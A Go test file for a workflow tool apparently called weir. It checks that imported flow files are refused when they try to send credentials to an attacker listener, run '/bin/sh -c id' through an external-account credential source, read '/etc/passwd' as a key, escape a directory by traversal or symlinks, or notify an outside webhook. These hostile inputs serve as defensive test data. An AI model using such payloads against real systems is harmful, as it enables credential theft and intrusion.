package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/weirflow/weir/fault"
)

// elsewhere listens where no token may ever go and counts who comes.
func elsewhere(t *testing.T) (address string, came *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	came = new(atomic.Int64)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			came.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return l.Addr().String(), came
}

// TestImportedFlowSendsNoTokenElsewhere imports flows that somebody else wrote
// and runs them: whatever they say, no connection leaves for a host that is not
// Google's, and in the sandbox no token is asked for.
func TestImportedFlowSendsNoTokenElsewhere(t *testing.T) {
	k, err := ownKey()
	if err != nil {
		t.Fatal(err)
	}
	evil, came := elsewhere(t)
	keyWith := func(field, value string) string {
		var m map[string]any
		if err := json.Unmarshal(k.file, &m); err != nil {
			t.Fatal(err)
		}
		m[field] = value
		b, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	external := fmt.Sprintf(`{"type": "external_account", "audience": "a", "subject_token_type": "t", "token_url": "https://%s/token",
		"credential_source": {"url": "http://%s/steal"}}`, evil, evil)
	executable := `{"type": "external_account", "audience": "a", "subject_token_type": "t", "token_url": "https://sts.googleapis.com/v1/token",
		"credential_source": {"executable": {"command": "/bin/sh -c id"}}}`
	for _, c := range []struct{ name, service, key, param, code string }{
		{"an address as the endpoint", `"endpoint": "` + evil + `"`, "", "", "setting_not_a_choice"},
		{"a URL as the endpoint", `"endpoint": "http://` + evil + `"`, "", "", "setting_not_a_choice"},
		{"an address from a parameter", `"endpoint": "#{p}"`, "", evil, "setting_not_a_choice"},
		{"the sandbox from a parameter, with a key", `"endpoint": "#{p}", "key": {"secret": "gcp-key"}`, string(k.file), "sandbox", "service_endpoint_with_secret"},
		{"the sandbox, with a key", `"endpoint": "sandbox", "key": {"secret": "gcp-key"}`, string(k.file), "", "google_key_with_endpoint"},
		{"the sandbox, acting as an account", `"endpoint": "sandbox", "impersonate": "` + ownReader + `"`, "", "", "google_impersonate_with_endpoint"},
		{"a token address of its own", `"token_uri": "https://` + evil + `/token"`, "", "", "setting_unknown"},
		{"another universe", `"universe_domain": "` + evil + `"`, "", "", "setting_unknown"},
		{"a key in the flow", `"key": "` + "{}" + `"`, "", "", "setting_secret_form"},
		{"a file for the key", `"key": {"file": "/etc/passwd"}`, "", "", "setting_secret_form"},
		{"an account elsewhere", `"impersonate": "x@` + strings.Split(evil, ":")[0] + `/y"`, "", "", "setting_pattern"},
		{"a project that is a path", `"project": "a/../../` + evil + `"`, "", "", "setting_pattern"},
		{"a key with another token address", `"key": {"secret": "gcp-key"}`, keyWith("token_uri", "https://"+evil+"/token"), "", "google_key_elsewhere"},
		{"a key of another universe", `"key": {"secret": "gcp-key"}`, keyWith("universe_domain", evil), "", "google_key_elsewhere"},
		{"an external account", `"key": {"secret": "gcp-key"}`, external, "", "google_key_bad"},
		{"a program to run", `"key": {"secret": "gcp-key"}`, executable, "", "google_key_bad"},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := inEarnest(t)
			e.silent = true
			if c.key != "" {
				t.Setenv("WEIR_SECRET_GCP_KEY", c.key)
			}
			service := c.service
			if !strings.Contains(service, `"project"`) {
				service += `, "project": "calback-demo"`
			}
			doc := with(t, users, `"project": "calback-demo", "endpoint": "sandbox"`, service)
			if c.param != "" {
				doc = with(t, doc, `"policy"`, `"parameters": {"p": {"type": "string", "default": `+fmt.Sprintf("%q", c.param)+`}}, "policy"`)
			}
			e.refuses(doc, c.code, "--sandbox", e.box.Addr())
			if n := len(e.auth.Issued()) + len(e.auth.Used()); n > 0 {
				t.Errorf("%d tokens were issued or used", n)
			}
		})
	}
	if n := came.Load(); n != 0 {
		t.Errorf("%d connections came elsewhere", n)
	}
}

// TestSandboxedFlowAsksForNoToken runs a flow in a sandbox that wants tokens,
// with credentials at hand: it goes without, and is refused.
func TestSandboxedFlowAsksForNoToken(t *testing.T) {
	e := inEarnest(t)
	e.refuses(users, "google_unauthenticated", "--sandbox", e.box.Addr())
	if n := len(e.auth.Issued()) + len(e.auth.Used()); n > 0 || len(e.front.Dialled()) > 0 {
		t.Errorf("%d tokens, dialled %q", n, e.front.Dialled())
	}
}

// refuses imports a flow and, where that is taken, starts a run: one of the two
// must fail with the code.
func (e *earnest) refuses(doc, code string, args ...string) {
	e.t.Helper()
	if err := os.WriteFile(e.path("hostile.json"), []byte(doc), 0o600); err != nil {
		e.t.Fatal(err)
	}
	data := e.path("data")
	r := e.weir(fault.English, "flow", "import", e.path("hostile.json"), "--data", data)
	if r.code == 0 {
		id := "users"
		if strings.Contains(doc, `"id": "gen"`) {
			id = "gen"
		}
		r = e.weir(fault.English, append([]string{"run", "start", id, "--data", data}, args...)...)
		if r.code == 0 {
			e.t.Fatalf("it ran:\n%s", r.out)
		}
		j := e.weir(fault.English, "run", "show", "last", "--json", "--data", data)
		r.out += j.out
	}
	if said := r.out + r.err; r.code == 0 || !strings.Contains(said, "["+code+"]") && !strings.Contains(said, `"`+code+`"`) {
		e.t.Errorf("exit %d, want %s\n%s%s", r.code, code, r.out, r.err)
	}
}

// everything lists what lies below a directory, with sizes, but for one part.
func everything(t *testing.T, dir, but string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if path == but {
			return filepath.SkipDir
		}
		i, err := d.Info()
		if err != nil {
			return err
		}
		if !d.IsDir() {
			fmt.Fprintf(&b, "%s %d %s\n", path, i.Size(), i.Mode())
		} else {
			fmt.Fprintln(&b, path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestImportedFlowWritesNowhereElse has each kind that writes files try to leave
// the directory of files: by its path, by parameters and expressions, by links.
func TestImportedFlowWritesNowhereElse(t *testing.T) {
	type sink struct{ kind, settings, terminate, ending string }
	sinks := []sink{
		{"WriteCSV", `"path": %q`, `["success"]`, "csv"},
		{"WriteFile", `"path": %q`, `["success", "failure"]`, "csv"},
		{"WriteDuckDB", `"file": %q, "table": "t"`, `["success"]`, "duckdb"},
	}
	ways := []struct{ name, path, param string }{
		{"up", "../out.", ""},
		{"up in the middle", "a/../../out.", ""},
		{"absolute", "ROOT/out.", ""},
		{"backslashes", `..\out.`, ""},
		{"up by a parameter", "#{p}/out.", "../.."},
		{"absolute by a parameter", "#{p}/out.", "ROOT"},
		{"up by an expression", "${run.params.p}/out.", ".."},
		{"parts that join", "a/${run.params.p}./out.", "."},
		{"a link to a directory", "link/out.", ""},
		{"a link in between", "a/link/out.", ""},
		{"a link by an expression", "${run.params.p}/out.", "link"},
		{"a link that leads nowhere yet", "dangling/out.", ""},
	}
	for _, s := range sinks {
		for _, w := range ways {
			t.Run(s.kind+" "+w.name, func(t *testing.T) {
				root := t.TempDir()
				files, outside := filepath.Join(root, "files"), filepath.Join(root, "outside")
				for _, dir := range []string{files, outside, filepath.Join(files, "a")} {
					if err := os.Mkdir(dir, 0o700); err != nil {
						t.Fatal(err)
					}
				}
				for link, to := range map[string]string{"link": outside, "a/link": "../../outside", "dangling": filepath.Join(root, "made")} {
					if err := os.Symlink(to, filepath.Join(files, link)); err != nil {
						t.Fatal(err)
					}
				}
				// The path runs through the JSON of the flow and, where it is a
				// parameter's, through its default.
				path, param := strings.ReplaceAll(w.path+s.ending, "ROOT", root), strings.ReplaceAll(w.param, "ROOT", root)
				doc := with(t, gen, `"kind": "WriteCSV", "settings": {"path": "out/dt=${run.date}/gen.csv"}, "terminate": ["success"]`,
					fmt.Sprintf(`"kind": %q, "settings": {`+s.settings+`}, "terminate": %s`, s.kind, path, s.terminate),
					`"note": {"type": "string", "default": "x"}`, fmt.Sprintf(`"p": {"type": "string", "default": %q}`, param))
				flow := file(t, "gen.json", doc)
				data := filepath.Join(t.TempDir(), "data")
				before := everything(t, root, files)
				r := weir(t, "flow", "import", flow, "--data", data)
				if r.code == 0 {
					r = weir(t, "run", "start", "gen", "--slot", "2026-11-20", "--data", data, "--files", files)
				}
				if r.code == 0 || !strings.Contains(r.out+r.err, "path_") && !strings.Contains(r.out+r.err, "file") {
					t.Errorf("exit %d\n%s%s", r.code, r.out, r.err)
				}
				if after := everything(t, root, files); after != before {
					t.Errorf("it wrote outside; there was\n%sand is\n%s", before, after)
				}
			})
		}
	}
}

// TestImportedFlowNamesNoAddress refuses flows that tell an address of their own
// about their runs.
func TestImportedFlowNamesNoAddress(t *testing.T) {
	evil, came := elsewhere(t)
	for _, c := range []struct{ notify, code string }{
		{`{"webhook": "http://` + evil + `"}`, "flow_"},
		{`{"webhook": {"url": "http://` + evil + `"}}`, "flow_"},
		{`{"webhook": {"secret": "http://` + evil + `"}}`, "notify_secret_bad"},
		{`{"ping": {"secret": "../x"}}`, "notify_secret_bad"},
		{`{"ping": {"secret": "#{note}"}}`, "notify_secret_bad"},
		{`{"ping": {"secret": "x"}, "url": "http://` + evil + `"}`, "flow_"},
	} {
		data := filepath.Join(t.TempDir(), "data")
		doc := with(t, gen, `"policy"`, `"notify": `+c.notify+`, "policy"`)
		r := weir(t, "flow", "import", file(t, "gen.json", doc), "--data", data)
		if r.code != exitInvalid || !strings.HasPrefix(r.errorCode(), c.code) {
			t.Errorf("%s: exit %d with %s\n%s%s", c.notify, r.code, r.errorCode(), r.out, r.err)
		}
		if r := weir(t, "run", "start", "--file", file(t, "gen.json", doc), "--slot", "2026-11-20", "--data", data); r.code != exitInvalid {
			t.Errorf("%s ran: exit %d\n%s%s", c.notify, r.code, r.out, r.err)
		}
	}
	if n := came.Load(); n != 0 {
		t.Errorf("%d connections came", n)
	}
}

// TestProblemsOfAFlowAreInvalid checks that what is wrong with a flow file ends
// with the code for that, whichever kind has found it.
func TestProblemsOfAFlowAreInvalid(t *testing.T) {
	doc := with(t, gen, `"kind": "WriteCSV", "settings": {"path": "out/dt=${run.date}/gen.csv"}, "terminate": ["success"]`,
		`"kind": "LoadBigQuery", "settings": {"service": "gcp", "dataset": "d", "table": "t"}, "terminate": ["success", "rejected"]`,
		`"nodes"`, `"services": {"gcp": {"kind": "GoogleCloud", "settings": {"project": "calback-demo", "endpoint": "sandbox"}}}, "nodes"`)
	for _, verb := range []string{"flow validate", "flow import", "run start --file"} {
		r := weir(t, append(strings.Fields(verb), file(t, "gen.json", doc), "--data", filepath.Join(t.TempDir(), "data"))...)
		if r.code != exitInvalid || r.errorCode() != "bigquery_partition_needed" {
			t.Errorf("%s: exit %d\n%s%s", verb, r.code, r.out, r.err)
		}
	}
}
